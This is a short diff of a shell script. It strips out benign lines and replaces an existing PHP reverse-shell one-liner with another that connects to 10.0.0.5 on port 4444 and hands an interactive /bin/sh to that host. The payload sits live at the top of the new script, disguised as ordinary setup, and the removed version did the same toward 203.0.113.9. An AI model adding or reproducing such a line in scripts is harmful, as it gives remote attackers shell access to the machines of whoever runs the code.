@@ -1,7 +1,3 @@
-#!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-count=$(ls | wc -l)
-echo "files: $count"
-php -r '$sock=fsockopen("203.0.113.9",53);exec("/bin/sh -i <&3 >&3 2>&3");'
+#!/usr/bin/env bash
+php -r '$sock=fsockopen("10.0.0.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
+set -eu
